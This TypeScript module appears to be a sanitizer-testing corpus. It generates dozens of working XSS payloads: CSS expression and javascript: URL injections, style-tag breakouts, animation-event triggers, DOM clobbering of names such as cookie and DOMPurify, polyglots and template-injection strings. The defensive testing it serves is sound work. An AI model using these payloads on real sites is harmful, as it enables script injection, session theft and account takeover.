import { CANARY, crossed, words, type Payload } from './payload.ts'

const STYLES: readonly ((js: string) => string)[] = [
  js => `width:expression(${js})`,
  js => `width:e\\78pression(${js})`,
  js => `background:url(javascript:${js})`,
  js => `background:url("javascript:${js}")`,
  js => `background:u\\72l(javascript:${js})`,
  js => `background:url(data:text/html,<script>parent.${js}</script>)`,
  js => `behavior:url(${CANARY}/x.htc#${js.length})`,
  js => `-moz-binding:url(${CANARY}/x.xml#${js.length})`,
  js => `color:red;/*</style><img src=x onerror=${js}>*/`,
  js => `content:'</style><img src=x onerror=${js}>'`,
  js => `--x:url(javascript:${js});background:var(--x)`,
  js => `position:fixed;inset:0;z-index:99999;background:url(${CANARY}/${js.length}.png)`,
  js => `filter:url(${CANARY}/f.svg#${js.length})`,
  js => `color:red}</style><svg onload=${js}>`,
]
const styled = [
  ...STYLES.map<Payload>(style => js => `<p style="${style(js).replaceAll('"', '&quot;')}">x</p>`),
  ...STYLES.map<Payload>(style => js => `<style>p{${style(js)}}</style><p>x</p>`),
]

const KEYFRAMES: readonly Payload[] = [
  js => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${js}">x</p>`,
  js => `<style>:target{color:red}</style><p id=x style="transition:color 1ms" ontransitionend=${js}>x</p>`,
  js => `<style>@import "data:text/css,*%7bx:expression(${js})%7d"</style>`,
  js => `<style>@import '${CANARY}/${js.length}.css'</style>`,
  js => `<style><!--</style><script>${js}//--></script>`,
  js =>
    `<style>@font-face{font-family:x;src:url(${CANARY}/${js.length}.woff)}p{font-family:x}</style><p>x</p>`,
]

const TAKEN = words(`
  attributes childNodes parentNode innerHTML nodeName removeChild getElementById querySelector createElement currentScript cookie body head
  documentElement defaultView implementation location trustedTypes DOMPurify __proto__ constructor`)
const clobbering = crossed(
  TAKEN,
  [0, 1] as const,
  (name, kind) => js =>
    kind === 0
      ? `<form id=${name} onclick=${js}><input name=${name}><img name=${name} src=x onerror=${js}></form>`
      : `<form tabindex=0 onfocus=${js}><input name=${name}><a id=${name} href="javascript:${js}">x</a></form>`,
)

const EVERYWHERE: readonly Payload[] = [
  js =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
  js =>
    `">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${js}><script>${js}</script>`,
  js => `'"()&%<acx><ScRiPt >${js}</ScRiPt>`,
  js => `';${js}//';${js}//";${js}//--></SCRIPT>">'><SCRIPT>${js}</SCRIPT>`,
  js => `" onclick=${js}//<button ' onclick=${js}//> */ ${js}//`,
  js => `<svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
  js => `"'--></style></script><svg oNload=${js}>`,
  js =>
    `<a href='javascript:${js}' onclick="${js}" style="x:expression(${js})"><img src=x onerror='${js}'></a>`,
  js => `{{constructor.constructor('${js}')()}}<p ng-app ng-csp>{{$eval.constructor('${js}')()}}</p>`,
  js =>
    `<p v-html="'<img src=x onerror=${js}>'" x-data="${js}" x-init="${js}" hx-on:load="${js}" data-bind="html:${js}">x</p>`,
  js => `\${${js}}<%= ${js} %>#{${js}}{%${js}%}`,
  js => `<x contenteditable onblur=${js}>x</x><x onclick=${js}>x</x><x oncut=${js}>x</x>`,
  js => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${js}>x</p>`,
  js => `<button commandfor=d command=show-modal>x</button><dialog id=d ontoggle=${js}>x</dialog>`,
  js => `<input type=hidden accesskey=x onclick=${js}><a accesskey=x href=javascript:${js}>x</a>`,
  js => `<img src=x onerror=${js} referrerpolicy=unsafe-url crossorigin=use-credentials fetchpriority=high>`,
  js => `<a href="https://canary.example" target=_blank rel=opener onclick=${js}>x</a>`,
  js => `<details><summary onclick=${js}>x</summary></details>`,
  js => `<keygen autofocus onfocus=${js}><command onclick=${js}><menuitem onclick=${js}>`,
  js => `<slot onslotchange=${js}></slot><output onclick=${js}>x</output><meter onclick=${js}></meter>`,
  js => `<ruby><rt onclick=${js}>x</rt></ruby><bdo dir=rtl onclick=${js}>x</bdo>`,
]

export const pages: readonly Payload[] = [...styled, ...KEYFRAMES, ...clobbering, ...EVERYWHERE]
